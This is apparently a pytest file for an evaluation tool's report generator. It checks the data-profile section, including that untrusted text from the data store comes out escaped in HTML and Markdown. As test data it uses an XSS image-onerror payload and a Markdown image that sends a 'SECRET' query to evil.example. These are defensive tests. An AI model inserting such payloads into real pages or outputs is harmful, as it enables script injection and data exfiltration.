"""The report's data-profile section: present when asked, figures drawn, store text escaped."""

from __future__ import annotations

import json
import re

import numpy as np

from assay import records as R
from assay.analysis.profile import ProfileSettings
from assay.report import Sections, build_report, to_html, to_markdown
from assay.report.profile import ProfileRequest, profile_figures
from assay.store import Store
from tests.analysis.profile_data import add_dataset, prompts

EVIL = "<img src=x onerror=alert(1)>"


def test_profile_section_escaped_with_figures(tmp_path):
    s = Store(f"sqlite:///{tmp_path / 'r.db'}")
    rng = np.random.default_rng(0)
    add_dataset(s, "eval", prompts(rng, {"cooking": 8, "code": 8}))
    pairs = prompts(rng, {"cooking": 4, "finance": 8}, pad=5)
    items = [R.Item(id=R.Item.make_id("prod", str(k), None, None), dataset="prod", external_id=str(k), prompt=p,
                    category=EVIL if k % 2 else t, language="en") for k, (t, p) in enumerate(pairs)]
    s.add([R.Dataset(name="prod"), *items])
    report = build_report(s, sections=Sections(profile=ProfileRequest("eval", "prod", ProfileSettings(topics=None))))
    sec = report["profile"]["comparison"]
    assert {t["feature"] for t in sec["tests"]} >= {"length (characters)", "category"}
    figs = profile_figures(report["profile"])
    assert len(figs) == 4  # two length histograms, languages, categories (no topics asked for)
    assert EVIL not in json.dumps(figs) and "&lt;img" in json.dumps(figs)
    page = to_html(report)
    assert 'id="profile"' in page and EVIL not in page
    assert "Data profile" in to_markdown(report)
    s.close()


def test_profile_section_says_why_it_is_missing(tmp_path):
    s = Store(f"sqlite:///{tmp_path / 'r.db'}")
    report = build_report(s, sections=Sections(profile=ProfileRequest("nope")))
    assert "no dataset 'nope'" in report["profile"]["error"]
    assert "no dataset" in to_html(report)
    s.close()


def test_report_profile_with_the_score(tmp_path, capsys):
    """`assay report --profile eval --profile-against prod --model a@1 --model b@1 --profile-dimension D`."""
    from assay.cli import main
    from tests.analysis.profile_data import add_scores

    db = tmp_path / "s.db"
    s = Store(f"sqlite:///{db}")
    rng = np.random.default_rng(2)
    ev = prompts(rng, {"cooking": 10, "code": 10})
    items = add_dataset(s, "eval", ev)
    add_dataset(s, "prod", prompts(rng, {"cooking": 5, "finance": 5}))
    add_scores(s, items, {"cooking": 0.9, "code": 0.2}, {it.id: t for it, (t, _) in zip(items, ev)}, rng)
    s.close()
    out = tmp_path / "r.json"
    assert main(["--db", str(db), "report", "-o", str(out), "--profile", "eval", "--profile-against", "prod",
                 "--no-profile-topics", "--model", "a@1", "--model", "b@1", "--profile-dimension", "factuality"]) == 0
    score = json.loads(out.read_text())["profile"]["comparison"]["score"]
    assert score["n"] == 20 and "not re-weighted" in score["line"]  # no topics asked for: the eval mix only
    assert main(["--db", str(db), "report", "-o", str(out), "--profile", "eval",
                 "--profile-dimension", "factuality"]) == 2
    assert "'--profile-dimension'" in capsys.readouterr().err


def test_profile_markdown_has_no_live_link_or_image_from_store_text(tmp_path):
    """An exfiltration image in a dataset's prompts, categories and name stays inert in the Markdown export.

    Prompts reach the Markdown only as topic terms (alphabetic words), so the name is the live path."""
    exfil = "![x](https://evil.example/?q=SECRET)"
    s = Store(f"sqlite:///{tmp_path / 'r.db'}")
    rng = np.random.default_rng(0)
    add_dataset(s, "eval", prompts(rng, {"cooking": 8, "code": 8}))
    pairs = prompts(rng, {"cooking": 4, "finance": 8})
    items = [R.Item(id=R.Item.make_id(exfil, str(k), None, None), dataset=exfil, external_id=str(k),
                    prompt=f"{p} {exfil}", category=exfil, language="en") for k, (_, p) in enumerate(pairs)]
    s.add([R.Dataset(name=exfil), *items])
    report = build_report(s, sections=Sections(profile=ProfileRequest("eval", exfil, ProfileSettings(topics=None))))
    md = to_markdown(report)
    assert "Data profile" in md and "evil.example" in md  # the name is shown...
    assert not re.search(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", md)  # ...but no unescaped [text]( : no live image/link
    s.close()
